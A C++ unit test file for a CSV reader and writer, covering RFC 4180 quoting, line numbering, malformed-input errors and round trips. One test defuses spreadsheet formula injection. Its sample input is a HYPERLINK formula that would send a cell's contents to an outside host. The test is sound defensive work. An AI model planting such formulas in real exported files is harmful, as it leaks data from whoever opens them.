#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "file/port/Csv.h"

namespace kavelmark
{
namespace
{

using Rows = std::vector<std::vector<std::string>>;

Rows Plain(const CsvTable& table)
{
    Rows rows;
    for (const CsvRow& row : table)
    {
        rows.emplace_back();
        for (const SecureString& field : row)
        {
            rows.back().emplace_back(field.data(), field.size());
        }
    }
    return rows;
}

struct ReadCase
{
    const char* what;
    std::string text;
    Rows rows;
};

TEST(CsvReadTest, ReadsFieldsAsRfc4180QuotesThem)
{
    const std::vector<ReadCase> cases = {
        {"CRLF line ends", "a,b,c\r\n1,2,3\r\n", {{"a", "b", "c"}, {"1", "2", "3"}}},
        {"LF line ends, none after the last record", "a,b\n1,2", {{"a", "b"}, {"1", "2"}}},
        {"comma and doubled quotes inside quotes", "\"x,y\",\"say \"\"hi\"\"\"\n", {{"x,y", "say \"hi\""}}},
        {"line breaks inside quotes stay as they are",
         "\"1\n2\",\"3\r\n4\",\"5\r6\"\r\nnext\r\n",
         {{"1\n2", "3\r\n4", "5\r6"}, {"next"}}},
        {"empty fields, quoted or not", ",\"\",\n", {{"", "", ""}}},
        {"a comma at the very end opens one more empty field", "a,", {{"a", ""}}},
        {"an empty line is a record of one empty field", "a\n\nb\n", {{"a"}, {""}, {"b"}}},
        {"a byte order mark is not part of the first field", "\xEF\xBB\xBFGroup,Title\n", {{"Group", "Title"}}},
        {"UTF-8 and blanks pass unchanged", " Grüße ,€\n", {{" Grüße ", "€"}}},
        {"no text, no records", "", {}},
    };
    for (const ReadCase& c : cases)
    {
        CsvReadResult result = ReadCsv(c.text);
        EXPECT_EQ(result.error, "") << c.what;
        EXPECT_EQ(Plain(result.rows), c.rows) << c.what;
    }
}

TEST(CsvReadTest, CountsTheLinesEachRecordBeginsOn)
{
    // A line break inside quotes moves the next record down, whether LF, CRLF or CR.
    CsvReadResult result = ReadCsv("a\r\n\"b\nc\",\"d\r\ne\"\r\nf\n\"g\rh\"\ni");
    ASSERT_EQ(result.error, "");
    EXPECT_EQ(result.firstLines, (std::vector<std::size_t>{1, 2, 5, 6, 8}));
}

TEST(CsvReadTest, RefusesMalformedQuotingAndNamesItsLine)
{
    const struct
    {
        std::string text;
        std::size_t line;
        std::string error;
    } cases[] = {
        {"\"open", 1, "a quoted field is not closed"},
        {"a\n\"open\nand more", 2, "a quoted field is not closed"},
        {"\"a\"b,c", 1, "text follows the closing quote of a field"},
        {"x\r\n\"two\nlines\" ,c", 3, "text follows the closing quote of a field"},
        {"ok\nsay \"hi\"", 2, "a quote inside a field that does not begin with one"},
    };
    for (const auto& c : cases)
    {
        CsvReadResult result = ReadCsv(c.text);
        EXPECT_EQ(result.error, c.error) << c.text;
        EXPECT_EQ(result.errorLine, c.line) << c.text;
    }
}

TEST(CsvWriteTest, QuotesOnlyFieldsThatNeedItAndEndsRecordsWithCrlf)
{
    SecureString out;
    const std::vector<std::string_view> fields = {"plain",   "a,b", "say \"hi\"",           "1\n2", "3\r4", " lead",
                                                  "trail\t", "",    "Grüße € in the middle"};
    AppendCsvRow(out, fields);
    AppendCsvRow(out, std::vector<std::string_view>{"second"});
    EXPECT_EQ(std::string(out.data(), out.size()),
              "plain,\"a,b\",\"say \"\"hi\"\"\",\"1\n2\",\"3\r4\",\" lead\",\"trail\t\",,Grüße € in the middle\r\n"
              "second\r\n");
}

TEST(CsvWriteTest, DefusedCellsThatASpreadsheetWouldRunGetALeadingApostropheAndKeptOnesStayAsTheyAre)
{
    const std::vector<std::string_view> fields = {
        "=HYPERLINK(\"http://x/?\"&D2)", "+1", "-x", "@SUM(A1)", "\tTab", "\rx", "a=b", "", "'quoted"};
    SecureString defused;
    AppendCsvRow(defused, fields, CsvFormulas::Defused);
    EXPECT_EQ(std::string(defused.data(), defused.size()),
              "\"'=HYPERLINK(\"\"http://x/?\"\"&D2)\",'+1,'-x,'@SUM(A1),\"'\tTab\",\"'\rx\",a=b,,'quoted\r\n");
    SecureString kept;
    AppendCsvRow(kept, fields);
    EXPECT_EQ(std::string(kept.data(), kept.size()),
              "\"=HYPERLINK(\"\"http://x/?\"\"&D2)\",+1,-x,@SUM(A1),\"\tTab\",\"\rx\",a=b,,'quoted\r\n");
}

TEST(CsvWriteTest, WhatIsWrittenReadsBackFieldForField)
{
    const std::vector<std::string> fields = {"\"", ",",    "\r\n",       "\n\n", "\r", "\"\"",
                                             " ",  "a\"b", "x,\"y\"\nz", "",     "_|", "€"};
    std::vector<std::string_view> views(fields.begin(), fields.end());
    SecureString out;
    AppendCsvRow(out, views);
    AppendCsvRow(out, views);
    CsvReadResult result = ReadCsv(out);
    ASSERT_EQ(result.error, "");
    EXPECT_EQ(Plain(result.rows), (Rows{fields, fields}));
}

} // namespace
} // namespace kavelmark
